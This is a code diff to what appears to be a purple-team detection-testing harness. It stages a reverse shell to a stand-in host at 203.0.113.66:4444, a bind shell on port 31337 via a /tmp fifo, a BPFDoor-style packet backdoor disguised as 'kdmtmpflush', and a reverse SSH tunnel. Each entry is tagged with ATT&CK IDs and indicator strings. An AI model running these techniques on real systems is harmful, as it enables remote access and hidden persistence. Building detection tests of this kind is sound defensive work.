@@ -12,7 +12,7 @@ def on_socket(g, name):
     return len(links) == 1 and links.pop().startswith("socket:")
 
 
-@plant("P120", "shell on a connection to the outside", "T1059.004 T1071 T1095 T1571", ["203.0.113.66"], {"process": "reverse-shell"}, "ATT&CK T1059.004; Atomic T1059.004 (reverse shell)",
+@plant("P120", "shell on a connection to the outside", "T1059.004 T1071 T1095 T1571", ["203.0.113.66:4444", "203.0.113.66"], {"process": "reverse-shell"}, "ATT&CK T1059.004; Atomic T1059.004 (reverse shell)",
        check=lambda g: require(on_socket(g, "reverse-shell") and g.connected(4444), "no shell on a socket"))
 def reverse_shell(g):
     link = g.connect("203.0.113.66", 4444)
@@ -20,7 +20,7 @@ def reverse_shell(g):
     link.close()
 
 
-@plant("P121", "shell behind a listener", "T1059.004 T1571 T1095", ["31337"], {"process": ["bind-nc", "bind-sh"]}, "ATT&CK T1059.004, T1571; Atomic T1059.004, T1571-2",
+@plant("P121", "shell behind a listener", "T1059.004 T1571 T1095", ["31337", "/tmp/.f"], {"process": ["bind-nc", "bind-sh"]}, "ATT&CK T1059.004, T1571; Atomic T1059.004, T1571-2",
        check=lambda g: require(g.listening(31337), "nobody listens"))
 def bind_shell(g):
     os.mkfifo("/tmp/.f")
@@ -42,7 +42,7 @@ def python_shell(g):
     g.wait_for(lambda: g.connected(8443), "connection")
 
 
-@plant("P123", "back door that waits for a magic packet behind a filter", "T1205.002 T1205 T1036", ["/dev/shm/kdmtmpflush", "kdmtmpflush", "packet"], {"process": "packet-backdoor"}, "ATT&CK T1205.002 (BPFDoor)",
+@plant("P123", "back door that waits for a magic packet behind a filter", "T1205.002 T1205 T1036", ["/dev/shm/kdmtmpflush", "kdmtmpflush", "console-kit-dae", "/run/haldrund.pid"], {"process": "packet-backdoor"}, "ATT&CK T1205.002 (BPFDoor)",
        check=lambda g: require(g.exe("packet-backdoor").endswith("(deleted)") and any(l.split()[2] == "3" and l.split()[3] == "0003" for l in g.read("/proc/net/packet").splitlines()[1:]), "no packet socket"))
 def packet_backdoor(g):
     g.program("/dev/shm/kdmtmpflush", "kdmtmpflush")
@@ -80,7 +80,7 @@ def listener(g):
     g.ask_world(do="connect", source="203.0.113.66", port=54321)
 
 
-@plant("P128", "remote login forwarded from inside to outside", "T1572 T1021.004 T1090", ["2222:localhost:22", "203.0.113.66"], {"process": "ssh-reverse"}, "ATT&CK T1572; Atomic T1572",
+@plant("P128", "remote login forwarded from inside to outside", "T1572 T1021.004 T1090", ["2222:localhost:22", "tun@203.0.113.66", "/tmp/.id"], {"process": "ssh-reverse"}, "ATT&CK T1572; Atomic T1572",
        check=lambda g: require("2222:localhost:22" in g.read(f"/proc/{g.processes['ssh-reverse']}/cmdline"), "no such arguments"))
 def reverse_forward(g):
     g.write("/tmp/.id", "-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5\n-----END OPENSSH PRIVATE KEY-----\n", 0o600)
